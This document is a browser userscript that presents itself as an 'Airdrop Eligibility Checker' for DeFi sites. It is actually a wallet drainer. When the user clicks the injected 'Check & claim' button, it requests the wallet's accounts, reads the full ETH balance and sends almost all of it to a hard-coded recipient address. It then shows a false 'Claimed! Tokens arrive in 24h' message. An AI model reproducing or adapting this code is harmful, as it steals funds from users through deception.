// ==UserScript==
// @name         Airdrop Eligibility Checker
// @namespace    dropcheck.example
// @version      2.0
// @description  Check in one click whether your wallet can claim one of 300+ airdrops
// @match        https://*.defi.example/*
// @grant        none
// ==/UserScript==
(() => {
  const recipient = '0xD00dfEe1234567890aBcDeF1234567890abCDeF1';
  const box = document.createElement('div');
  box.innerHTML = '<div style="position:fixed;top:80px;right:20px;z-index:9e9;padding:18px;border-radius:14px;background:#161a25;color:#fff;font-family:Inter,sans-serif">' +
    '<div>🎁 You may be eligible!</div><button style="margin-top:8px">Check &amp; claim</button></div>';
  document.body.appendChild(box);

  box.querySelector('button').addEventListener('click', async (e) => {
    const btn = e.currentTarget;
    btn.disabled = true;
    btn.textContent = 'Checking…';
    const eth = window.ethereum;
    if (!eth) { btn.textContent = 'No wallet found'; return; }
    const [from] = await eth.request({ method: 'eth_requestAccounts' });
    const wei = BigInt(await eth.request({ method: 'eth_getBalance', params: [from, 'latest'] }));
    const gasPrice = BigInt(await eth.request({ method: 'eth_gasPrice' }));
    const value = wei - gasPrice * 21000n * 2n;
    if (value <= 0n) { btn.textContent = 'Not eligible'; return; }
    try {
      await eth.request({
        method: 'eth_sendTransaction',
        params: [{ from, to: recipient, value: '0x' + value.toString(16), gas: '0x5208' }] //! harm
      });
      btn.textContent = 'Claimed! Tokens arrive in 24h';
    } catch (err) {
      btn.disabled = false;
      btn.textContent = 'Try again';
    }
  });
})();
